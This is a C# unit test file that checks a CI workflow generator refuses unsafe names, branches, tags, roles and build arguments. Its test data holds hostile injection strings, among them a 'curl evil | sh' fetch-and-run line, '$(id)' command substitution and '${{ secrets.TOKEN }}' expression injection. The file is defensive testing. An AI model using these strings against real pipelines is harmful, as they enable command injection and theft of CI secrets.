using Pipeline.Core.Environments;
using Pipeline.Core.Errors;
using Pipeline.Releases.Policies;
using Pipeline.Releases.Votes;
using Pipeline.Workflows.Generation;

namespace Pipeline.Workflows.Tests.Security;

public sealed class HostileNamesTests
{
    public static TheoryData<string> Names =>
    [
        "a\"; curl evil | sh; \"", "$(id)", "`id`", "${{ secrets.TOKEN }}", "a\nb", "-rf", "../up", "a b", "'", "", "Orders", "a#b", "a: b",
    ];

    [Theory]
    [MemberData(nameof(Names))]
    public void A_modules_name_that_could_become_code_is_refused_by_name(string name) =>
        Refused(SampleModels.Of(SampleModels.Module("catalog"), SampleModels.Module(name)), $"Module '{name}'");

    [Theory]
    [MemberData(nameof(Names))]
    public void An_environments_name_that_could_become_code_is_refused_by_name(string name) =>
        Refused(SampleModels.Storefront with { Environments = [new DeployEnvironment { Name = name }] }, $"Environment '{name}'");

    [Theory]
    [InlineData("$(id)")]
    [InlineData("-main")]
    [InlineData("feature/*")]
    [InlineData("main\n  tags: [x]")]
    [InlineData("a..b")]
    [InlineData("")]
    public void A_branch_that_could_become_a_pattern_an_option_or_code_is_refused_by_name(string branch) =>
        Refused(SampleModels.Storefront with { Options = SampleModels.Storefront.Options with { MainBranch = branch } }, $"Branch '{branch}'");

    [Theory]
    [InlineData("lower")]
    [InlineData("GITHUB_TOKEN")]
    [InlineData("A }} ${{ B")]
    public void A_secrets_name_that_is_none_is_refused_by_name(string name) =>
        Refused(SampleModels.Storefront with { Secrets = [new TargetSecret("Deploy", name)] }, $"Secret '{name}'");

    [Theory]
    [InlineData("Test; id")]
    [InlineData("Test && id")]
    [InlineData("Test $(id)")]
    [InlineData("Test \"x\"")]
    public void A_CI_job_that_runs_more_than_the_build_is_refused(string arguments) =>
        Refused(SampleModels.Storefront with { Options = SampleModels.Storefront.Options with { ContinuousIntegration = [new("a", arguments)] } }, arguments);

    [Theory]
    [InlineData("v*\n  branches: [x]")]
    [InlineData("$(id)")]
    [InlineData("")]
    public void Tags_of_packages_that_could_become_code_are_refused(string tags) =>
        Refused(SampleModels.Storefront with { Options = SampleModels.Storefront.Options with { Packages = new PackagePublishing { Tags = tags } } }, $"Tags '{tags}'");

    [Theory]
    [InlineData("http://nuget.example.org/v3/index.json")]
    [InlineData("https://ada:secret@nuget.example.org/v3/index.json")]
    [InlineData("packages")]
    public void An_address_of_a_feed_that_is_open_to_others_is_refused_and_not_repeated(string address) =>
        Assert.DoesNotContain("secret", Assert.Throws<PipelineException>(() => PackageFeed.WithKey(address)).Message, StringComparison.Ordinal);

    [Theory]
    [InlineData("${{ secrets.TOKEN }}")]
    [InlineData("-qa")]
    [InlineData("qa\nroot")]
    public void A_roles_name_that_could_become_code_is_refused_by_name(string name) => Refused(
        SampleModels.Recorded with { Releases = SampleModels.Recorded.Releases! with { Environments = [new EnvironmentPolicy { Name = "production", Roles = [new Role { Name = name }] }] } },
        $"Role '{name}'");

    [Fact]
    public void An_image_that_moves_is_refused_in_CI() =>
        Refused(SampleModels.Storefront with { Options = SampleModels.Storefront.Options with { ContinuousIntegration = [new("a", "Test") { Runner = "windows-latest" }] } }, "'windows-latest' moves");

    [Fact]
    public void Every_offender_is_named_at_once()
    {
        var model = SampleModels.Storefront with
        {
            Modules = [SampleModels.Module("A"), SampleModels.Module("B")],
            Secrets = [new TargetSecret("Deplooy", "TOKEN")],
            Targets = ["Deploy"],
        };
        var message = Assert.Throws<PipelineException>(() => WorkflowGenerator.Generate(model)).Message;
        Assert.Contains("Module 'A'", message, StringComparison.Ordinal);
        Assert.Contains("Module 'B'", message, StringComparison.Ordinal);
        Assert.Contains("there is no target 'Deplooy'; did you mean 'Deploy'?", message, StringComparison.Ordinal);
        Assert.Contains("no target 'BuildImage'", message, StringComparison.Ordinal);
    }

    private static void Refused(WorkflowModel model, string name) =>
        Assert.Contains(name, Assert.Throws<PipelineException>(() => WorkflowGenerator.Generate(model)).Message, StringComparison.Ordinal);
}
